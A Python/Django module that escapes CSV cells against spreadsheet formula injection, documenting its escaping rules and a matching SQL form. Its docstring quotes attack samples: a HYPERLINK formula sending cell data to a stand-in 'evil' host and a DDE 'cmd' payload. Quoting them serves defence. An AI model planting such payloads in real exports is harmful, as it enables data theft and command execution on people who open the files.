"""CSV cells that are safe to open in a spreadsheet (no formula injection).

This module is the platform's one CSV writer: every CSV it writes (web downloads, the API,
management commands, benchmarks' outputs) is written through :func:`safe_writer`,
:func:`safe_dict_writer`, :func:`csv_text` or :func:`frame_csv`, and every CSV a page or the API
offers as a file is answered by :func:`csv_attachment`; ``tests/test_csv_writers.py`` fails on
any ``csv.writer`` / ``csv.DictWriter`` / ``DataFrame.to_csv`` outside this file. It imports no
other module of the project, so every app can use it (analysis/downloads.py adds the export
audit log for researchers' downloads). So a rationale
``=HYPERLINK("http://evil/?"&A1)``, an imported id ``=cmd|' /C calc'!A0`` or a source ``@SUM(…)``
is shown by Excel / LibreOffice / Google Sheets as text instead of being evaluated.

The rule, exactly (framework-free so it can be re-expressed elsewhere, e.g. in SQL for a
PostgreSQL ``COPY`` export):

1. Only *text* cells are touched. Numbers (``int``, ``float``, ``Decimal``; not ``bool``),
   ``None`` and empty strings are written as they are: a score ``-0.5`` is a number, not a
   formula.
2. A text cell is *dangerous* when its first character is one of
   ``=`` ``+`` ``-`` ``@``, tab (0x09) or carriage return (0x0D) — the OWASP "CSV Injection"
   list — or one of their full-width look-alikes ``＝`` (U+FF1D) ``＋`` (U+FF0B) ``－`` (U+FF0D)
   ``＠`` (U+FF20), which some spreadsheet locales and input methods turn into the ASCII sign.
3. A dangerous text cell that is a plain decimal number in ASCII (``-0.5``, ``+3``, ``-1e-3``;
   regular expression :data:`NUMBER`) is left alone: spreadsheets read it as that number, and
   text columns such as ``bias`` in a report must stay numeric.
4. Every other dangerous cell gets one apostrophe ``'`` in front. Spreadsheets show the cell as
   text; a program reading the CSV sees the apostrophe and the original text after it.
5. A spreadsheet whose list separator is ``;`` (most of continental Europe) splits a line at
   every ``;``, quotes or not, and one that ignores quotes at every ``,``: the rationale
   ``fine;=1+1`` then holds a second cell ``=1+1``. So in a text cell, a ``;`` or ``,`` that is
   followed (after any spaces, tabs, line breaks and double quotes) by a character of rule 2
   gets one apostrophe right after it (``fine;'=1+1``), unless the text from there to the next
   ``;`` or ``,`` (or the end), stripped of those, is a plain number (rule 3: ``3;-1`` stays).

As SQL (PostgreSQL, for a text expression ``v``; ``inner(v)`` is rule 5)::

    CASE WHEN v ~ '^[-=+@\\t\\r＝＋－＠]'
              AND v !~ '^[+-]?([0-9]+\\.?[0-9]*|\\.[0-9]+)([eE][+-]?[0-9]+)?$'
         THEN '''' || inner(v) ELSE inner(v) END

    inner(v) = regexp_replace(v,
        '([,;])(?=[ \\t\\r\\n"]*[-=+@＝＋－＠])(?![ \\t\\r\\n"]*[+-]?([0-9]+\\.?[0-9]*|\\.[0-9]+)'
        || '([eE][+-]?[0-9]+)?[ \\t\\r\\n"]*([,;]|$))', '\\1''', 'g')
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any, overload

from django.http import HttpResponse, StreamingHttpResponse

if TYPE_CHECKING:
    import pandas as pd

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

DANGEROUS_FIRST = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
PREFIX = "'"
SEPARATORS = frozenset(",;")
# Rule 5: what may stand between a separator and the formula character it would start.
_GAP = ' \t\r\n"'
_FORMULA = "\\-=+@\uff1d\uff0b\uff0d\uff20"
_SEPARATOR = re.compile(r"[,;]")
# A separator before a formula character (rule 5); the same after apostrophes, for the
# reversible escape; and a separator with one apostrophe after it, which cell_unescaped takes.
_INNER = re.compile(f"[,;](?=[{_GAP}]*[{_FORMULA}])")
_INNER_OR_ESCAPED = re.compile(f"[,;](?='*[{_GAP}]*[{_FORMULA}])")
_INNER_ESCAPED = re.compile(f"([,;])'(?='*[{_GAP}]*[{_FORMULA}])")


def _starts_a_formula(text: str) -> bool:
    """Rules 2 and 3: the cell's first character starts a formula and the cell is no number."""
    return bool(text) and text[0] in DANGEROUS_FIRST and NUMBER.fullmatch(text) is None


def _number_follows(text: str, end: int) -> bool:
    """Whether the text from `end` to the next separator is a plain number (rule 5's
    exception), apostrophes, spaces and quotes around it aside."""
    following = _SEPARATOR.search(text, end)
    piece = text[end : following.start() if following else len(text)]
    return NUMBER.fullmatch(piece.lstrip(PREFIX).strip(_GAP)) is not None


def _has_inner_formula(text: str) -> bool:
    return any(not _number_follows(text, m.end()) for m in _INNER.finditer(text))


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read this text cell, or a piece of it after a ``;`` or
    ``,``, as a formula (rules 2, 3 and 5)."""
    return _starts_a_formula(text) or (not SEPARATORS.isdisjoint(text) and _has_inner_formula(text))


def _escape_inner(text: str, pattern: re.Pattern[str]) -> str:
    return pattern.sub(
        lambda m: m.group(0) if _number_follows(text, m.end()) else m.group(0) + PREFIX, text
    )


def safe_cell(value: Any) -> Any:
    """The value to write into a CSV cell: text that could start a formula gets a leading
    apostrophe, and each separator before a formula in it one after it; numbers, None and
    everything else pass unchanged (non-text values are turned into text by the csv module
    with ``str()``, so they are checked as that text)."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if not is_dangerous(text):
        return value
    escaped = _escape_inner(text, _INNER) if not SEPARATORS.isdisjoint(text) else text
    return PREFIX + escaped if _starts_a_formula(text) else escaped


def reversible_cell(text: str) -> str:
    """`safe_cell` for text that must come back exactly when the file is read again (a released
    dataset that is re-imported): besides the dangerous places, one that already has
    apostrophes before a formula character (at the start, or after a separator) gets one
    more, so :func:`cell_unescaped` removes exactly the one added here and nothing a writer
    typed."""
    escaped = _escape_inner(text, _INNER_OR_ESCAPED)
    return PREFIX + escaped if _looks_escaped(text) else escaped


def cell_unescaped(text: str) -> str:
    """The inverse of :func:`reversible_cell`: one leading apostrophe off a cell that starts
    with apostrophes before a dangerous character, and one off each separator followed by
    apostrophes before a formula character; every other text as it is."""
    if text.startswith(PREFIX) and _looks_escaped(text):
        text = text[1:]
    return _INNER_ESCAPED.sub(
        lambda m: m.group(0) if _number_follows(text, m.end(1)) else m.group(1), text
    )


def _looks_escaped(text: str) -> bool:
    return _starts_a_formula(text.lstrip(PREFIX))


_PLAIN = frozenset({int, float, Decimal, bool, type(None)})


def safe_row(row: Iterable[Any]) -> list[Any]:
    """safe_cell on every cell, with the common cases inlined: exports write hundreds of
    thousands of rows, and a function call per cell tripled the time spent formatting them."""
    return [
        v
        if type(v) in _PLAIN
        or (type(v) is str and (not v or v[0] not in DANGEROUS_FIRST) and SEPARATORS.isdisjoint(v))
        else safe_cell(v)
        for v in row
    ]


def safe_rows(rows: Iterable[Iterable[Any]]) -> Iterator[list[Any]]:
    for row in rows:
        yield safe_row(row)


class _SafeWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(safe_rows(rows))


class _SafeDictWriter:
    """csv.DictWriter with every value (and the header) passed through safe_cell."""

    def __init__(self, writer: csv.DictWriter) -> None:
        self._writer = writer

    def writeheader(self):
        return self._writer.writer.writerow(safe_row(self._writer.fieldnames))

    def writerow(self, row: dict[str, Any]):
        return self._writer.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[dict[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(file, **kwargs) -> _SafeWriter:
    """``csv.writer(file, **kwargs)`` whose rows (header included) are neutralised."""
    return _SafeWriter(csv.writer(file, **kwargs))


class _ReversibleWriter:
    """csv.writer for text that must read back exactly (reversible_cell on every cell)."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[str]):
        return self._writer.writerow([reversible_cell(cell) for cell in row])


def reversible_writer(file, **kwargs) -> _ReversibleWriter:
    """``csv.writer(file, **kwargs)`` for a file that is read back (a released dataset): its
    text cells are made safe with :func:`reversible_cell`, which :func:`cell_unescaped` undoes."""
    return _ReversibleWriter(csv.writer(file, **kwargs))


def safe_dict_writer(file, fieldnames: list[str], **kwargs) -> _SafeDictWriter:
    """``csv.DictWriter(file, fieldnames, **kwargs)`` whose cells are neutralised."""
    return _SafeDictWriter(csv.DictWriter(file, fieldnames=fieldnames, **kwargs))


def frame_csv(df: pd.DataFrame, **kwargs: Any) -> str:
    """``df.to_csv(index=False, **kwargs)`` of the neutralised frame, as text (floats keep
    pandas' full, round-tripping precision unless ``float_format`` says otherwise)."""
    kwargs.setdefault("index", False)
    text: str = safe_frame(df).to_csv(**kwargs)
    return text


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of a pandas DataFrame ready for ``to_csv``: text cells and column names
    neutralised, numeric columns untouched (they are numbers, whatever their sign)."""
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    out = df.copy()
    for column in out.columns:
        dtype = out[column].dtype
        if not is_numeric_dtype(dtype) or is_bool_dtype(dtype):
            # Object, string and categorical columns may hold text; numbers pass unchanged.
            out[column] = out[column].astype(object).map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(c) for c in out.columns]
    if out.index.name is not None:
        out.index.name = safe_cell(out.index.name)
    return out


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A header and its rows as CSV text, every cell made safe."""
    buffer = io.StringIO()
    writer = safe_writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def attachment_disposition(filename: str) -> str:
    """The Content-Disposition of a file to save under ``filename`` (a name the code built, such
    as a slug: it is not quoted further)."""
    return f'attachment; filename="{filename}"'


@overload
def csv_attachment(body: str, *, filename: str) -> HttpResponse: ...
@overload
def csv_attachment(body: Iterator[str], *, filename: str) -> StreamingHttpResponse: ...
def csv_attachment(
    body: str | Iterator[str], *, filename: str
) -> HttpResponse | StreamingHttpResponse:
    """A CSV file to save: a whole body (from :func:`csv_text` or :func:`frame_csv`), or chunks
    streamed as they are produced (each written by this module's writers)."""
    response: HttpResponse | StreamingHttpResponse
    if isinstance(body, str):
        response = HttpResponse(body, content_type=CSV_CONTENT_TYPE)
    else:
        response = StreamingHttpResponse(body, content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = attachment_disposition(filename)
    return response
